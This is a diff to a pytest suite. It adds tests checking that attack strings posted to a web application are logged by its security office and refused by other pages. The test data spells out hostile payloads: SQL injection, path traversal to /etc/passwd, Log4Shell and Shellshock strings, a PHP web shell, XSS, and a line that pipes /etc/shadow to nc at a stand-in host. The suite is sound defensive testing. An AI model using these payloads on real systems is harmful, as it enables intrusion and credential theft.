@@ -36,6 +36,20 @@ _WRITTEN = (
     "<!-- a signature -->",
 )
 
+#: What is noted about an attack.
+_NOTED = (
+    "' OR 1=1 --",
+    "/etc/passwd",
+    "x'; DROP TABLE users; -- and then cat /etc/shadow | nc 192.0.2.1 80",
+    "<script>alert(1)</script>",
+    '192.0.2.1 - - "GET /../../etc/passwd HTTP/1.1" 200',
+    "From: a@b.example\nContent-Type: text/html\nSet-Cookie: a=b",
+    "${jndi:ldap://192.0.2.1/a} java.lang.Runtime.getRuntime().exec",
+    'document.cookie="PHPSESSID=1";domain=x',
+    "<?php system($_GET['c']); ?>",
+)
+_OFFICE = "office/security/registers/incident/add/"
+
 
 @pytest.fixture(scope="module", name="cluster")
 def _cluster(tmp_path_factory):
@@ -80,6 +94,33 @@ def test_what_people_write_reaches_the_application(cluster, page):
     say(f"{len(texts)} texts, of which {len(letters)} letters, {len(refused)} of them refused")
 
     assert not refused
+
+
+@pytest.mark.parametrize("text", _NOTED)
+@pytest.mark.parametrize("field", ["what", "taken", "likelihood_steps-5-name-en"])
+def test_what_is_noted_about_an_attack_reaches_the_security_office_and_no_other_page(cluster, page, field, text):
+    words = ("--data-urlencode", f"{field}={text}")
+
+    assert cluster.send(f"/{cluster.practice['slug']}/{_OFFICE}", *words)[1]
+    assert cluster.send(page, *words) == (403, False)
+
+
+@pytest.mark.parametrize(
+    ("path", "words"),
+    [
+        ("?day=../../../../etc/passwd", ()),
+        ("", ("-A", "() { :;}; /bin/cat /etc/passwd")),
+        ("", ("-A", "sqlmap/1.7")),
+        ("", ("-b", "seen=' UNION SELECT password FROM users--")),
+        ("", ("--data", "a%27%20OR%201%3D1%20--=x")),
+        ("../../../../{page}", ("--path-as-is", "--data-urlencode", "what=/etc/passwd")),
+        ("%2e%2e/%2e%2e/%2e%2e/%2e%2e/{page}", ("--path-as-is", "--data-urlencode", "what=/etc/passwd")),
+    ],
+)
+def test_nothing_but_what_is_written_passes_in_the_security_office(cluster, page, path, words):
+    office = f"/{cluster.practice['slug']}/{_OFFICE}"
+
+    assert cluster.send(office + path.format(page=page.strip("/")), *words) == (403, False)
 
 
 @pytest.mark.parametrize("field", ["password=' OR 1=1 -- <script>", "password=${jndi:x};cat /etc/passwd"])
